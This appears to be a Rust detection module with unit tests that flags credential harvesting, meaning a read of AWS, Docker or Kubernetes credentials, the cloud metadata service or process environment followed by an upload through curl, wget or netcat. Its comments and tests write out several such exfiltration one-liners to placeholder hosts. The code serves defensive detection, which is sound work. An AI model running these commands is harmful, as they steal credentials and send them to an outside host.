//! Credential harvesting: a credential file or metadata endpoint read, then uploaded, in
//! one sequence. `cat ~/.aws/credentials | curl -d @- http://h/` and
//! `curl -F f=@/root/.docker/config.json http://h/` are harvesting; reading a credential
//! alone (a health check of the metadata service, `aws` reading its config) is not.
//! Uploads: `curl -d`/`--data*`/`-F`/`--form`/`-T`/`--upload-file`, `wget --post-file`/
//! `--post-data`, `nc H P < F` or `… | nc H P`.

use super::{
    base, excerpt2, program_index, words, Behaviour, BehaviourKind, Grammar, Sep, ShellCommand,
};

/// Whether `text` (lower-cased) names credential `pattern` (`*` matches anything).
fn names(text: &str, pattern: &str) -> bool {
    let mut rest = text;
    for piece in pattern.split('*') {
        match rest.find(piece) {
            Some(i) => rest = &rest[i + piece.len()..],
            None => return false,
        }
    }
    true
}

fn uploads(c: &ShellCommand) -> bool {
    let w = words(c);
    let Some(p) = program_index(w) else {
        return false;
    };
    let args = &w[p + 1..];
    match base(&w[p]) {
        "curl" => args.iter().any(|a| {
            a == "-d"
                || a == "-F"
                || a == "-T"
                || a.starts_with("--data")
                || a.starts_with("--form")
                || a.starts_with("--upload-file")
                || a.starts_with("-d@")
                || a.starts_with("-T")
        }),
        "wget" => args
            .iter()
            .any(|a| a.starts_with("--post-file") || a.starts_with("--post-data")),
        "nc" | "ncat" | "netcat" | "socat" => c.text.contains('<') || c.after == Sep::Pipe,
        _ => false,
    }
}

/// The first credential read followed by an upload.
pub fn judge(g: &Grammar, cmds: &[ShellCommand]) -> Vec<Behaviour> {
    let mut read: Option<&ShellCommand> = None;
    for c in cmds {
        let lower = c.text.to_ascii_lowercase();
        if read.is_none() && g.credentials.iter().any(|p| names(&lower, p)) {
            read = Some(c);
        }
        if let Some(r) = read {
            if uploads(c) {
                return vec![Behaviour {
                    kind: BehaviourKind::CredHarvest,
                    signature: "cred-read-upload".into(),
                    excerpt: excerpt2(r, c),
                    line: Some(c.line),
                }];
            }
        }
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::super::BehaviourKind::CredHarvest;

    #[test]
    fn read_then_upload() {
        for s in [
            "cat /root/.aws/credentials | curl -s -d @- http://198.51.100.1/up",
            "curl -F f=@/root/.docker/config.json http://198.51.100.1/",
            "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r); curl --data-binary \"$C\" http://h/",
            "tar cz /home/*/.kube/config > /tmp/k; nc 198.51.100.1 9 < /tmp/k",
            "cat /proc/1/environ > /tmp/e; wget --post-file=/tmp/e http://h/",
        ] {
            assert_eq!(kinds(s), [CredHarvest], "{s}");
        }
        for s in [
            "cat ~/.aws/credentials",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "curl -d '{\"a\":1}' http://localhost/api",
            "aws s3 cp /tmp/x s3://bucket/ && curl -F f=@/tmp/x http://h/",
        ] {
            assert!(run(s).is_empty(), "{s}: {:?}", run(s));
        }
    }
}
